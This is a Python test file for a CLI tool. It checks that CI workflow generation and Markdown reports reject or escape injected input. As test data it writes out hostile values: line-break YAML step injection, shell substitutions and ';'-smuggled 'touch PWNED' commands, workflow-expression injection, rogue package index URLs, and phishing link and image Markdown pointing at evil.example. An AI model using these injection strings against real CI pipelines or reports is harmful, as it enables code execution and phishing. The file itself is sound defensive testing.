"""Issue 35, items 1 and 9: no code runs in CI from `init --install-from`, no Markdown runs from a git author.

Each test drives the CLI on files in a temporary git repository and failed before its fix: the values were
written verbatim into a `run:` line (a new step from a line break, a shell command from `";…;"`, a
workflow expression or a backtick substitution), and `check --format markdown` rendered an author's
`![t](…)` / `[…](…)` as an image and a link.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.conftest import git, write_answer

WORKFLOW = ".github/workflows/remedy.yml"
# What `run:` lines may expand: only the workflow's own expressions and env names, never a value from init.
ALLOWED_EXPRESSIONS = {"${{ vars.REMEDY_LOGS }}", "${{ github.base_ref }}", "${{ steps.models.outputs.key }}",
                       "${{ hashFiles('remediations/**', 'remedy.toml') }}"}


def steps(project: Path) -> list[dict]:
    return yaml.safe_load((project / WORKFLOW).read_text())["jobs"]["remedy"]["steps"]


# Each was accepted before (exit 0) and reached a `run:` line; the last ones are refused forms of the same kind.
@pytest.mark.parametrize("value", [
    'https://example.com/x"\n      - name: injected\n        run: touch PWNED\n#/remedy_sme-0.1.0-py3-none-any.whl',
    'git+https://github.com/acme/remedy@v1";touch${IFS}PWNED;"',
    "git+https://github.com/acme/remedy@${{github.event.pull_request.title}}",
    "git+https://github.com/acme/remedy@`touch${IFS}PWNED`",
    "https://evil.example/$(touch${IFS}PWNED)/remedy_sme-0.1.0-py3-none-any.whl",
    "git+https://github.com/acme/remedy@v1\n",
    "--index-url=https://evil.example/simple",
    "0.1.0 --extra-index-url https://evil.example",
    "./a b",
    "\u202egit+https://github.com/acme/remedy@v1",
])
def test_an_install_source_that_is_no_requirement_is_refused_before_any_file(repo: Path, run, value: str) -> None:
    result = run("init", "proj", "--install-from", value)
    assert result.exit_code == 2, result.stdout + result.stderr
    assert "--install-from" in result.stderr and ("must be one of" in result.stderr or "not " in result.stderr)
    assert not (repo / "proj").exists() and not list(repo.rglob("PWNED"))


@pytest.mark.parametrize(("value", "requirement"), [
    ("git+https://github.com/acme/remedy@v0.1.0", "remedy-sme[precise] @ git+https://github.com/acme/remedy@v0.1.0"),
    ("0.2.0", "remedy-sme[precise]==0.2.0"),
    (">=0.2,<0.3", "remedy-sme[precise]>=0.2,<0.3"),
    ("https://files.example.com/remedy_sme-0.1.0-py3-none-any.whl",
     "remedy-sme[precise] @ https://files.example.com/remedy_sme-0.1.0-py3-none-any.whl"),
])
def test_the_requirement_reaches_pip_as_an_env_value_never_inside_a_run_line(repo: Path, run, value: str,
                                                                              requirement: str) -> None:
    result = run("init", ".", "--install-from", value)
    assert result.exit_code == 0, result.stderr
    written = steps(repo)
    (install,) = [step for step in written if "REMEDY_REQUIREMENT" in step.get("env", {})]
    assert install["env"]["REMEDY_REQUIREMENT"] == requirement
    assert install["run"] == 'pip install "$REMEDY_REQUIREMENT"'
    for step in written:
        run_line = step.get("run", "")
        assert requirement not in run_line and value not in run_line
        assert set(re.findall(r"\$\{\{.*?\}\}", run_line)) <= ALLOWED_EXPRESSIONS, run_line
    text = (repo / WORKFLOW).read_text()
    assert set(re.findall(r"\$\{\{.*?\}\}", text)) <= ALLOWED_EXPRESSIONS


def markdown_comment(repo: Path, run, author: str) -> str:
    write_answer(repo, "refund", "Can I get a refund?", status="draft")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    write_answer(repo, "bags", "How big may a cabin bag be?", status="draft")
    git(repo, "add", "-A")
    git(repo, "-c", f"user.name={author}", "-c", "user.email=x@example.com", "commit", "-q", "-m", "head",
        env={"PATH": "/usr/bin:/bin", "HOME": str(repo)})
    result = run("check", "--base", "HEAD~1", "--format", "markdown")
    assert result.exit_code in (0, 1), result.stderr
    return result.stdout


def test_an_author_name_renders_as_text_not_as_an_image_or_a_link(repo: Path, run) -> None:
    author = "![t](https://evil.example/t.png) [security review: approved](https://evil.example/phish) <b>x</b>"
    comment = markdown_comment(repo, run, author)
    html = MarkdownIt("commonmark").enable("table").render(comment)
    assert "<img" not in html and "<a " not in html and "<b>" not in html, html
    assert "security review: approved" in html  # shown, as text


def test_one_escaping_function_writes_every_text_in_markdown() -> None:
    from remedy.report.markdown_text import markdown_text

    nasty = "*bold* _it_ [a](b) ![i](j) <x> `c` # h | pipe \\ ~~s~~ https://evil.example &amp;"
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text(nasty))
    assert all(tag not in html for tag in ("<em>", "<strong>", "<a ", "<img", "<x>", "<code>", "<h1>", "<s>"))
    assert "[a](b)" in html and "https://evil.example" in html


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(), st.text(alphabet="git+https:/@.$`{}\"'\n;|&()-_~ 0123456789abcwhlremdy_sme")))
def test_any_value_is_refused_or_lands_only_as_the_env_value(tmp_path_factory, value: str) -> None:
    """Hypothesis: whatever `--install-from` is, either UsageError, or the workflow holds it as one env value
    and a `run:` line holds none of it (project_init.checked_workflow raises otherwise)."""
    from importlib import resources

    from remedy.errors import UsageError
    from remedy.install_source import parse_install_source
    from remedy.project_init import _filled, checked_workflow

    try:
        source = parse_install_source(value, tmp_path_factory.getbasetemp(), "remedy-sme")
    except UsageError:
        return
    assert re.fullmatch(r"[A-Za-z0-9._~/:@%+=#,<>!\[\] -]+", source.requirement), source.requirement
    assert "$" not in source.requirement and "{" not in source.requirement and "`" not in source.requirement
    template = (resources.files("remedy") / "templates" / "workflow.yml").read_text(encoding="utf-8")
    for extras in ((), ("precise",)):
        checked_workflow(_filled(template, source.with_extras(extras), extras), source.with_extras(extras))
